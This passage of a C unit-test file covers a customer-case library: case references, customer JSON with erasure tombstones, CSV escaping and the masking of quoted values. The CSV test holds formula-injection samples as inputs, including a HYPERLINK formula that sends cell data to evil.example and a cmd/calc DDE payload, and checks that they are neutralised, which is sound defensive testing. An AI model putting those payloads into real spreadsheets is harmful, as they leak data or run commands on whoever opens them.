	assert_int_equal(needs_basis_required(NULL, NULL, NULL), STATUS_OK);
	assert_int_equal(needs_basis_required("hearing", "consent", NULL), STATUS_OK);
	assert_int_equal(needs_basis_required("hearing", NULL, NULL), STATUS_INVALID);

	/* in words, labels from what is known */
	{
		char *t = needs_text("hearing,interpreter:Polish", &legacy);

		assert_string_equal(t, "hearing impaired \xc2\xb7 needs an interpreter (Polish)");
		free(t);
		t = needs_text("no-internet,unknown-flag", &legacy);
		assert_string_equal(t, "no internet access \xc2\xb7 unknown-flag");
		free(t);
		assert_null(needs_text("", &legacy));
	}
}

static void test_case_status_and_ref(void **state)
{
	char ref[32];

	(void)state;
	assert_int_equal(case_status_find(NULL), -1);
	assert_int_equal(case_status_find(""), -1);
	assert_int_equal(case_status_find("Open"), -1);
	assert_string_equal(case_status_name((enum case_status)17), "unknown");
	assert_string_equal(case_status_name(CASE_AWAITING_CUSTOMER), "awaiting-customer");
	for (int i = 0; i < CASE_STATUS_COUNT; i++)
		assert_int_equal(case_status_find(case_status_name((enum case_status)i)), i);
	assert_int_equal(case_status_find("in-progress"), CASE_IN_PROGRESS);

	assert_false(case_reference_valid(NULL));
	assert_false(case_reference_valid(""));
	assert_false(case_reference_valid("WB2"));
	assert_false(case_reference_valid("WB2-"));
	assert_false(case_reference_valid("-00417"));
	assert_false(case_reference_valid("WB2-0041"));
	assert_false(case_reference_valid("WB2-00417x"));
	assert_false(case_reference_valid("wb2-00417"));
	assert_false(case_reference_valid("2WB-00417"));
	assert_false(case_reference_valid("ABCDEFGHIJK-00417"));
	assert_true(case_reference_valid("WB2-00417"));
	assert_true(case_reference_valid("HUB12-1234567"));

	case_reference("WB2", 417, ref, sizeof(ref));
	assert_string_equal(ref, "WB2-00417");
	assert_true(case_reference_valid(ref));
	case_reference("WB2", 1234567, ref, sizeof(ref));
	assert_string_equal(ref, "WB2-1234567");
}

static void test_customer_record(void **state)
{
	struct customer *c;

	(void)state;
	customer_free(NULL);
	set_now("2026-03-29T00:30:00Z");
	c = customer_new();
	assert_true(uuid_valid(c->id));
	assert_string_equal(c->created_at, "2026-03-29T00:30:00.000Z");
	for (int i = 0; i < CF_COUNT; i++)
		assert_null(c->field[i]);
	customer_set(c, CF_name, "Ann Smith");
	assert_string_equal(c->field[CF_name], "Ann Smith");
	customer_set(c, CF_name, "Ann Jones");
	assert_string_equal(c->field[CF_name], "Ann Jones");
	customer_set(c, CF_name, "");
	assert_null(c->field[CF_name]);
	customer_set(c, CF_email, "ann@example.com");
	customer_set(c, CF_email, NULL);
	assert_null(c->field[CF_email]);
	customer_free(c);
}

static void test_customer_json(void **state)
{
	struct customer *c;
	json_t *j, *f, *h;
	char *text;

	(void)state;
	assert_null(customer_to_json(NULL));
	set_now("2026-03-29T00:30:00Z");
	c = customer_new();
	memcpy(c->id, "0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7b", UUID_STR_LEN + 1);
	customer_set(c, CF_name, "Łukasz Nowak");
	customer_set(c, CF_postcode, "NG12 3AB");
	customer_set(c, CF_phone, "+447700900123");
	c->phone_raw = xstrdup("07700 900 123");
	snprintf(c->hlc[CF_name], HLC_STR_MAX, "1774744200000-0000-wb2");

	j = customer_to_json(c);
	assert_non_null(j);
	assert_string_equal(json_string_value(json_object_get(j, "id")),
			    "0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7b");
	assert_string_equal(json_string_value(json_object_get(j, "created_at")),
			    "2026-03-29T00:30:00.000Z");
	assert_true(json_is_false(json_object_get(j, "erased")));
	assert_string_equal(json_string_value(json_object_get(j, "phone_raw")), "07700 900 123");
	f = json_object_get(j, "fields");
	h = json_object_get(j, "hlc");
	assert_true(json_is_object(f));
	assert_true(json_is_object(h));
	assert_int_equal(json_object_size(f), CF_COUNT);
	assert_int_equal(json_object_size(h), CF_COUNT);
	assert_string_equal(json_string_value(json_object_get(f, "name")), "Łukasz Nowak");
	assert_string_equal(json_string_value(json_object_get(f, "postcode")), "NG12 3AB");
	assert_string_equal(json_string_value(json_object_get(f, "phone")), "+447700900123");
	assert_true(json_is_null(json_object_get(f, "dob")));
	assert_true(json_is_null(json_object_get(f, "preferred_channel")));
	assert_string_equal(json_string_value(json_object_get(h, "name")),
			    "1774744200000-0000-wb2");
	assert_true(json_is_null(json_object_get(h, "email")));
	text = json_dumps(j, JSON_COMPACT | JSON_SORT_KEYS);
	assert_non_null(strstr(text, "\"erased\":false"));
	free(text);
	json_decref(j);

	/* An erased customer travels as a tombstone, without personal data. */
	c->erased = true;
	j = customer_to_json(c);
	assert_true(json_is_true(json_object_get(j, "erased")));
	assert_true(json_is_null(json_object_get(json_object_get(j, "fields"), "name")));
	assert_true(json_is_null(json_object_get(j, "phone_raw")));
	assert_string_equal(json_string_value(json_object_get(json_object_get(j, "hlc"), "name")),
			    "1774744200000-0000-wb2");
	json_decref(j);

	/* Bytes that are not UTF-8 cannot become JSON. */
	c->erased = false;
	customer_set(c, CF_address, "1 High St\xff");
	assert_null(customer_to_json(c));
	customer_free(c);
}

/* CSV cells: quoting per RFC 4180 and OWASP's formula rule, one place. */
static void test_csv_cell(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ NULL, "" },
		{ "", "" },
		{ "plain", "plain" },
		{ "Zoë Nguyễn", "Zoë Nguyễn" },
		{ "a,b", "\"a,b\"" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
		{ "two\nlines", "\"two\nlines\"" },
		{ "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
		  "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" },
		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1)", "'@SUM(A1)" },
		{ "\tx", "'\tx" },
		{ "\rx", "\"'\rx\"" },
		{ "=1", "'=1" },
		{ "-", "'-" },
		{ "-.5", "'-.5" },
		{ "-12", "-12" },
		{ "+7", "+7" },
		{ "-2.5", "-2.5" },
		{ "-4.0%", "-4.0%" },
		{ "3.", "3." },
		{ "a=1", "a=1" },
	};
	struct buf b;

	(void)state;
	buf_init(&b, 1 << 20);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *got = csv_cell(&b, cases[i].in);

		if (strcmp(got, cases[i].out) != 0)
			fail_msg("case %zu: expected [%s], got [%s]", i, cases[i].out, got);
	}
	assert_true(csv_cell_is_formula("=A1"));
	assert_false(csv_cell_is_formula("-1"));
	assert_false(csv_cell_is_formula(NULL));
	assert_false(csv_cell_is_formula(""));
	buf_release(&b);
}

static void test_hide_quoted(void **state)
{
	char out[64];

	(void)state;
	text_hide_quoted(NULL, "#", out, sizeof out);
	assert_string_equal(out, "");
	text_hide_quoted("no quotes at all", "#", out, sizeof out);
	assert_string_equal(out, "no quotes at all");
	text_hide_quoted("postcode 'DE7 4RA' is not a UK postcode", "#", out, sizeof out);
	assert_string_equal(out, "postcode # is not a UK postcode");
	/* A value holding quotes leaks nothing of its tail. */
	text_hide_quoted("name 'O'Brien' is too long", "#", out, sizeof out);
	assert_string_equal(out, "name # is too long");
	/* Never closed: the rest is the value. */
	text_hide_quoted("name 'Zo\xc3\xab", "#", out, sizeof out);
	assert_string_equal(out, "name #");
	/* An apostrophe inside a word quotes nothing. */
	text_hide_quoted("the device's site 'x' is wrong", "#", out, sizeof out);
	assert_string_equal(out, "the device's site # is wrong");
	/* Two values: the words between go too. */
	text_hide_quoted("'a' and 'b' differ", "#", out, sizeof out);
	assert_string_equal(out, "# differ");
	/* Cut short, at a whole mark. */
	text_hide_quoted("abc 'secret value'", "(hidden)", out, 8);
	assert_string_equal(out, "abc ");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_err_degenerate),
		cmocka_unit_test(test_err_format),
		cmocka_unit_test(test_mem),
		cmocka_unit_test(test_buf),
		cmocka_unit_test(test_time_parse_degenerate),
		cmocka_unit_test(test_time_roundtrip),
		cmocka_unit_test_teardown(test_clock_env, teardown_clock),
		cmocka_unit_test(test_date_parse),
		cmocka_unit_test(test_date_parse_uk),
		cmocka_unit_test(test_london_time),
		cmocka_unit_test(test_date_arith),
		cmocka_unit_test_teardown(test_london_day, teardown_clock),
		cmocka_unit_test(test_working_days),
		cmocka_unit_test(test_working_days_between),
		cmocka_unit_test(test_case_transitions),
		cmocka_unit_test(test_case_pause),
		cmocka_unit_test(test_audit_hash),
		cmocka_unit_test_teardown(test_uuid, teardown_clock),
		cmocka_unit_test(test_hlc_parse),
		cmocka_unit_test_teardown(test_hlc_tick, teardown_clock),
		cmocka_unit_test_teardown(test_hlc_observe, teardown_clock),
		cmocka_unit_test(test_utf8),
		cmocka_unit_test(test_trim),
		cmocka_unit_test(test_csv_cell),
		cmocka_unit_test(test_err_list),
		cmocka_unit_test(test_gzip),
		cmocka_unit_test(test_suggest),
		cmocka_unit_test(test_hide_quoted),
		cmocka_unit_test(test_fold),
		cmocka_unit_test(test_postcode),
		cmocka_unit_test(test_email),
		cmocka_unit_test(test_phone),
		cmocka_unit_test_teardown(test_dob, teardown_clock),
		cmocka_unit_test(test_text),
		cmocka_unit_test(test_code_uprn_int_money),
		cmocka_unit_test(test_field_table),
		cmocka_unit_test_teardown(test_field_check, teardown_clock),
		cmocka_unit_test(test_needs),
		cmocka_unit_test(test_case_status_and_ref),
		cmocka_unit_test_teardown(test_customer_record, teardown_clock),
		cmocka_unit_test_teardown(test_customer_json, teardown_clock),
	};

	return cmocka_run_group_tests_name("core", tests, NULL, NULL);
}
